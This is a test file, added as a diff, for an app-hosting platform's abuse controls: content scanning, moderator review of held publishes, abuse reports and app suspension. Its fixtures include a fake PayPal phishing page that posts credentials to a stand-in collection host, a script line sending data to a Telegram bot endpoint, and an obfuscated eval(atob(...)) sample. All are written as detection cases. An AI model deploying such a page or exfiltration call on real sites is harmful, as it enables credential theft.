@@ -0,0 +1,251 @@
+import type { Client } from "@modelcontextprotocol/sdk/client/index.js";
+import { beforeEach, describe, expect, it } from "vitest";
+import { BLOCKLIST, scanFiles } from "../src/abuse";
+import { serveData } from "../src/data";
+import { serveReport } from "../src/report";
+import { serveApp } from "../src/serve";
+import { ProjectService } from "../src/services/projects";
+import { ALICE, BOB, type CreatedProject, type Harness, type PreviewLink, callError, callJson, callText, createHarness } from "./helpers";
+
+let harness: Harness;
+let alice: Client;
+let admin: ProjectService;
+let projectId: string;
+
+const ctx = { waitUntil: () => {} } as unknown as ExecutionContext;
+
+const PHISHING_PAGE =
+  '<h1>PayPal</h1><p>Your account has been limited. Verify your account below.</p>' +
+  '<form action="https://collect.example/login" method="post"><input name="email"><input type="password" name="pw"></form>';
+
+beforeEach(async () => {
+  harness = createHarness();
+  harness.env.ADMIN_EMAILS = "Mod@shapps.dev, other@shapps.dev";
+  admin = new ProjectService(harness.env, "mod@shapps.dev", harness.store, harness.cache);
+  alice = await harness.connect(ALICE);
+  ({ project_id: projectId } = await callJson<CreatedProject>(alice, "create_project", { name: "Shop", slug: "shop" }));
+  await callText(alice, "update_settings", { project_id: projectId, is_public: true });
+  await callText(alice, "write_files", { project_id: projectId, files: [{ file_path: "index.html", content: "<h1>Shop</h1>" }] });
+  await callText(alice, "publish", { project_id: projectId });
+});
+
+function visit(path: string) {
+  const request = new Request(new URL(path, "https://shapps.dev"));
+  const [, prefix, slug, ...rest] = new URL(request.url).pathname.split("/");
+  return serveApp(harness.env, ctx, request, slug, rest.join("/"), prefix === "app" ? "active" : "draft", {
+    store: harness.store,
+    cache: harness.cache,
+  });
+}
+
+function report(method: "GET" | "POST", body?: string, query = "") {
+  const request = new Request(`https://shapps.dev/report/shop${query}`, {
+    method,
+    body,
+    headers: body ? { "Content-Type": "application/x-www-form-urlencoded", "CF-Connecting-IP": "203.0.113.7" } : {},
+  });
+  return serveReport(harness.env, request, "shop", { store: harness.store });
+}
+
+describe("scanFiles", () => {
+  const html = (content: string) => ({ file_path: "index.html", content, content_type: "text/html", encoding: "utf8" as const });
+  const script = (file_path: string, content: string) => ({ file_path, content, content_type: "text/javascript", encoding: "utf8" as const });
+
+  it("flags credential forms and brand impersonation", () => {
+    expect(scanFiles([html(PHISHING_PAGE)], BLOCKLIST).map((f) => f.rule)).toEqual(["credential_form", "brand_impersonation"]);
+    // Posting card numbers into the app's own form submissions is flagged too
+    expect(
+      scanFiles([html('<form action="~forms/pay"><input name="card-number"></form>')], BLOCKLIST).map((f) => f.rule)
+    ).toEqual(["credential_form"]);
+  });
+
+  it("flags blocklisted links and obfuscated scripts", () => {
+    const findings = scanFiles(
+      [
+        script("app.js", 'fetch("https://api.telegram.org/bot123:abc/sendMessage")'),
+        script("x.js", "eval(atob('YWxlcnQoMSk='))"),
+        html(`<a href="https://bad.example.net/x">x</a>`),
+      ],
+      [...BLOCKLIST, "example.net"]
+    );
+    expect(findings).toEqual([
+      expect.objectContaining({ rule: "blocked_url", file_path: "app.js" }),
+      expect.objectContaining({ rule: "obfuscated_script", file_path: "x.js" }),
+      expect.objectContaining({ rule: "blocked_url", file_path: "index.html" }),
+    ]);
+  });
+
+  it("leaves ordinary apps alone", () => {
+    const files = [
+      html('<form action="/login"><input type="password"></form>'),
+      html('<p>We ship with DHL.</p><form action="~forms/contact"><input name="email"></form>'),
+      { file_path: "logo.png", content: "iVBORw0KGgo=", content_type: "image/png", encoding: "base64" as const },
+    ];
+    expect(scanFiles(files, BLOCKLIST)).toEqual([]);
+  });
+});
+
+describe("publish reviews", () => {
+  async function holdPhishingDraft() {
+    await callText(alice, "write_files", { project_id: projectId, files: [{ file_path: "index.html", content: PHISHING_PAGE }] });
+    const error = await callError(alice, "publish", { project_id: projectId, message: "New login" });
+    expect(error).toContain("held for review");
+    expect(error).toContain("index.html: a form asks for a password");
+    const { items } = await admin.listPublishReviews();
+    return items[0];
+  }
+
+  it("holds a flagged draft instead of publishing it", async () => {
+    const review = await holdPhishingDraft();
+    expect(review).toMatchObject({ status: "pending", message: "New login", project: { slug: "shop", owner_email: ALICE.email } });
+    expect(await (await visit("/app/shop/")).text()).toBe("<h1>Shop</h1>");
+
+    // Fixing the draft and publishing again replaces the hold
+    await callText(alice, "write_files", { project_id: projectId, files: [{ file_path: "index.html", content: "<h1>Shop 2</h1>" }] });
+    await callText(alice, "publish", { project_id: projectId });
+    expect(await (await visit("/app/shop/")).text()).toBe("<h1>Shop 2</h1>");
+    expect((await admin.listPublishReviews()).total).toBe(0);
+    expect(harness.store.reviews[0].status).toBe("superseded");
+  });
+
+  it("publishes the scanned draft when an admin approves it", async () => {
+    const review = await holdPhishingDraft();
+    const { published } = await admin.decidePublishReview(review.id, "approve", "A bank's own staff training app");
+    expect(published).toMatchObject({ version_number: 2 });
+    expect(await (await visit("/app/shop/")).text()).toBe(PHISHING_PAGE);
+    await expect(admin.decidePublishReview(review.id, "reject")).rejects.toThrow("No pending review");
+  });
+
+  it("won't approve a draft that changed after it was held", async () => {
+    const review = await holdPhishingDraft();
+    await callText(alice, "write_files", { project_id: projectId, files: [{ file_path: "other.html", content: "<p>sneaky</p>" }] });
+    await expect(admin.decidePublishReview(review.id, "approve")).rejects.toThrow("The draft has changed");
+
+    const { review: rejected, published } = await admin.decidePublishReview(review.id, "reject", "Phishing");
+    expect(rejected).toMatchObject({ status: "rejected", reviewed_by: "mod@shapps.dev", review_note: "Phishing" });
+    expect(published).toBeNull();
+    expect(await (await visit("/app/shop/")).text()).toBe("<h1>Shop</h1>");
+  });
+
+  it("doesn't publish files written after the scan", async () => {
+    // A write lands between the scan and the publish itself
+    const publish = harness.store.publish.bind(harness.store);
+    harness.store.publish = async (id, options) => {
+      const project = (await harness.store.getProject(id, null))!;
+      await harness.store.putFiles(project.draft_version_id!, [
+        { file_path: "index.html", content: PHISHING_PAGE, content_type: "text/html", encoding: "utf8", size: PHISHING_PAGE.length, storage_key: null },
+      ]);
+      return publish(id, options);
+    };
+    await callText(alice, "write_files", { project_id: projectId, files: [{ file_path: "index.html", content: "<h1>Shop 2</h1>" }] });
+    expect(await callError(alice, "publish", { project_id: projectId })).toContain("The draft changed while it was being published");
+    expect(await (await visit("/app/shop/")).text()).toBe("<h1>Shop</h1>");
+  });
+
+  it("refuses writes to the live version", async () => {
+    const { active_version_id } = (await harness.store.getProject(projectId, null))!;
+    await expect(harness.store.deleteFiles(active_version_id!, ["index.html"])).rejects.toThrow("was published while");
+  });
+
+  it("leaves the review pending when the approved publish fails", async () => {
+    const review = await holdPhishingDraft();
+    const publish = harness.store.publish.bind(harness.store);
+    harness.store.publish = async (id, options) => {
+      // Someone rolls back meanwhile
+      const project = (await harness.store.getProject(id, null))!;
+      await harness.store.rollback(id, project.active_version_id!, { actorEmail: null });
+      return publish(id, options);
+    };
+    await expect(admin.decidePublishReview(review.id, "approve")).rejects.toThrow("changed by someone else");
+    expect((await harness.store.getPublishReview(review.id))!.status).toBe("pending");
+  });
+
+  it("is for admins only", async () => {
+    const owner = new ProjectService(harness.env, ALICE.email, harness.store, harness.cache);
+    await expect(owner.listPublishReviews()).rejects.toThrow("Only Shapps admins");
+    await expect(owner.listReports({})).rejects.toThrow("Only Shapps admins");
+    await expect(owner.setSuspension(projectId, "spam")).rejects.toThrow("Only Shapps admins");
+  });
+});
+
+describe("reports", () => {
+  it("shows a form for public apps only", async () => {
+    const form = await report("GET", undefined, "?url=https://shapps.dev/app/shop/login");
+    expect(form.status).toBe(200);
+    expect(await form.text()).toContain('value="https://shapps.dev/app/shop/login"');
+
+    await callText(alice, "update_settings", { project_id: projectId, is_public: false });
+    expect((await report("GET")).status).toBe(404);
+  });
+
+  it("stores reports for admins, and drops the honeypot", async () => {
+    const sent = await report("POST", "reason=phishing&details=Asks+for+my+bank+login&email=bob%40example.com");
+    expect(await sent.text()).toContain("Your report was sent");
+    await report("POST", "reason=spam&_honeypot=1");
+    expect(harness.store.reports).toEqual([
+      expect.objectContaining({ reason: "phishing", details: "Asks for my bank login", reporter_email: "bob@example.com", status: "open" }),
+    ]);
+
+    const invalid = await report("POST", "reason=boring");
+    expect(invalid.status).toBe(400);
+    expect(await invalid.text()).toContain("Choose what&#39;s wrong with the app.");
+
+    const { items } = await admin.listReports({ status: "open" });
+    expect(items).toEqual([expect.objectContaining({ reason: "phishing", project: { slug: "shop", owner_email: ALICE.email, suspended: false } })]);
+    await admin.dismissReport(items[0].id);
+    expect((await admin.listReports({ status: "open" })).total).toBe(0);
+    await expect(admin.dismissReport(items[0].id)).rejects.toThrow("No open report");
+  });
+
+  it("limits how many reports an address can send", async () => {
+    for (let i = 0; i < 3; i++) await report("POST", "reason=spam");
+    const limited = await report("POST", "reason=spam");
+    expect(limited.status).toBe(429);
+    expect(limited.headers.get("Retry-After")).toBeTruthy();
+  });
+});
+
+describe("suspension", () => {
+  it("takes the app down everywhere but keeps its data, until lifted", async () => {
+    await report("POST", "reason=phishing");
+    await visit("/app/shop/");
+    const suspended = await admin.setSuspension(projectId, "Phishing for bank logins");
+    expect(suspended).toMatchObject({ slug: "shop", suspension_reason: "Phishing for bank logins", reports_closed: 1 });
+
+    const { preview_url } = await callJson<PreviewLink>(alice, "get_preview_url", { project_id: projectId });
+    for (const response of [await visit("/app/shop/"), await visit(new URL(preview_url).pathname + new URL(preview_url).search)]) {
+      expect(response.status).toBe(403);
+      expect(await response.text()).toContain("This app isn't available");
+    }
+    const data = await serveData(harness.env, new Request("https://shapps.dev/app/shop/~data/notes"), "shop", "notes", "active", {
+      store: harness.store,
+    });
+    expect(data.status).toBe(404);
+
+    // The owner still sees the project and why it's down, but can't publish
+    expect(await callJson(alice, "get_project", { project_id: projectId })).toMatchObject({
+      suspension_reason: "Phishing for bank logins",
+    });
+    expect(await callError(alice, "publish", { project_id: projectId })).toContain("suspended");
+
+    await admin.setSuspension(projectId, null);
+    expect(await (await visit("/app/shop/")).text()).toBe("<h1>Shop</h1>");
+  });
+
+  it("can't be copied while suspended, by the owner or anyone else", async () => {
+    await callText(alice, "update_settings", { project_id: projectId, show_source: true });
+    await admin.setSuspension(projectId, "Phishing for bank logins");
+
+    const bob = await harness.connect(BOB);
+    for (const [client, slug] of [[alice, "shop-copy"], [bob, "bobs-shop"]] as const) {
+      expect(await callError(client, "duplicate_project", { project_id: projectId, slug })).toBe(
+        "This app has been suspended, so it can't be copied."
+      );
+    }
+
+    await admin.setSuspension(projectId, null);
+    expect(await callJson<CreatedProject>(bob, "duplicate_project", { project_id: projectId, slug: "bobs-shop" })).toMatchObject({
+      slug: "bobs-shop",
+    });
+  });
+});